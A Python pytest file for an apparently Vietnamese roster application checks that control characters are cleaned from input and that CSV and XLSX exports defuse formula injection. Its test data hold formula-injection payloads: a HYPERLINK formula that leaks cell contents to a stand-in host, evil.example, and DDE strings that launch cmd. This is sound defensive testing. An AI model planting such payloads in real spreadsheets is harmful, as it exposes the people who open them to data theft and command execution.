"""Input that breaks things for others (issue 10): control characters, formula injection,
spreadsheet bombs, odd encodings. Each value is cleaned at entry, and every export writes
stored values safely even if they were stored before the cleaning existed."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from bot.i18n import translator
from storage import members as store
from storage import orgs as org_store
from usecases import orgs as orgs_uc
from usecases import report_xlsx, roster, roster_io
from usecases import status as status_uc
from usecases.errors import InvalidInput

from .helpers import demo_tree
from .test_status import build_world

HEADER = "Họ và tên,Ngày sinh,Giới tính,Trạng thái,Ngày trạng thái"
TODAY = date(2026, 11, 23)


@pytest.fixture
async def cell(ctx) -> int:
    await demo_tree(ctx)
    return (await orgs_uc.get_org(ctx, "C1")).id


async def names(ctx, cell) -> list[str]:
    async with ctx.db.read() as tx:
        return sorted(m.full_name for m in await store.of_org(tx, cell))


async def plant(ctx, cell, *full_names: str) -> None:
    """Values stored before cleaning existed (or by another channel), straight into storage."""
    async with ctx.db.transaction() as tx:
        for name in full_names:
            f = store.MemberFields(
                full_name=name, birth_date=date(1970, 1, 1), status_date=date(1990, 1, 1)
            )
            await store.insert(tx, org_id=cell, f=f, name_key=name.lower(), at=ctx.now())


def message(exc: InvalidInput) -> str:
    return exc.msg.key.format(**exc.msg.params)


# -- control and format characters ---------------------------------------------------------------


async def test_control_characters_in_a_csv_are_removed_at_import(ctx, cell):
    data = (
        f"{HEADER}\nNguy\x1bễn Văn\x07 An\x00,15/01/1960,Nam,Chính thức,01/01/1990\n"
        "\u202eTrần\u200b Thị Bình,02/07/1975,Nữ,Chính thức,01/01/2000\n"
    )
    report = await roster.import_file(
        ctx, actor="cli", org_id=cell, data=data.encode(), filename="a.csv"
    )
    assert report.errors == [] and report.created == 2
    assert await names(ctx, cell) == ["Nguyễn Văn An", "Trần Thị Bình"]


async def test_control_characters_typed_in_a_form_are_removed(ctx, cell):
    f = store.MemberFields(
        full_name="Lê\x1b[31m Văn\u202e Cường\x00",
        birth_date=date(1980, 1, 1),
        status_date=date(2010, 1, 1),
    )
    member = await roster.add_member(ctx, actor="cli", org_id=cell, f=f)
    assert member.full_name == "Lê[31m Văn Cường"
    with pytest.raises(InvalidInput):  # nothing left but control characters: empty
        await roster.add_member(
            ctx,
            actor="cli",
            org_id=cell,
            f=store.MemberFields(full_name="\x1b\x07\u200b", birth_date=date(1980, 1, 1)),
        )


def test_a_chat_answer_is_cleaned():
    assert roster_io.read_value("card_no", "79.0\x1b00001", TODAY, "Số thẻ") == "79.000001"


async def test_org_names_are_cleaned(ctx):
    org = await orgs_uc.add_org(ctx, actor="cli", code="Z", name="Chi bộ\x07 \u202eZ")
    assert org.name == "Chi bộ Z"


async def test_exports_never_fail_on_a_stored_control_character(ctx, cell):
    await plant(ctx, cell, "Nguyễn\x1b Văn\x07 An\x00", "Trần\x0b Thị\ufffe Bình")
    xlsx = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="xlsx")
    ws = load_workbook(io.BytesIO(xlsx.data)).active
    assert sorted(r[0] for r in ws.iter_rows(min_row=2, values_only=True)) == [
        "Nguyễn Văn An",
        "Trần Thị Bình",
    ]
    exported = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="csv")
    assert "\x1b" not in exported.data.decode("utf-8-sig")


# -- formula injection ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def test_xlsx_export_writes_formulas_as_text(ctx, cell):
    await plant(ctx, cell, *FORMULAS)
    xlsx = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="xlsx")
    ws = load_workbook(io.BytesIO(xlsx.data)).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}


async def test_csv_export_quotes_formulas_and_reimports_them_unchanged(ctx, cell):
    await plant(ctx, cell, *FORMULAS, "\tTab", "Nguyễn Văn An")
    exported = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="csv")
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    first = sorted(r[0] for r in rows[1:])
    assert all(v.startswith("'") for v in first if v[1:2] in "=+-@\t" and v != "Nguyễn Văn An")
    assert "Nguyễn Văn An" in first
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in first)
    parsed = roster_io.parse_file(exported.data, "x.csv", TODAY)
    got = sorted(r.values["full_name"] for r in parsed.rows)
    assert got == sorted([*FORMULAS, "Tab", "Nguyễn Văn An"])


@pytest.fixture
async def report_world(ctx, clock):
    await build_world(ctx, clock)
    return ctx


async def test_report_writes_a_cell_named_like_a_formula_as_text(report_world):
    ctx = report_world
    async with ctx.db.transaction() as tx:
        x = await org_store.by_code(tx, "X")
        assert x is not None
        await org_store.insert(
            tx,
            code="EVIL",
            name='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")\x1b',
            kind="cell",
            parent_id=x.id,
            at=ctx.now(),
        )
    data = await status_uc.report(ctx, "cli", code="X")
    wb = load_workbook(io.BytesIO(report_xlsx.build(data, translator("vi"))))
    found = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert found and {c.data_type for c in found} == {"s"}
    assert all("\x1b" not in c.value for c in found)
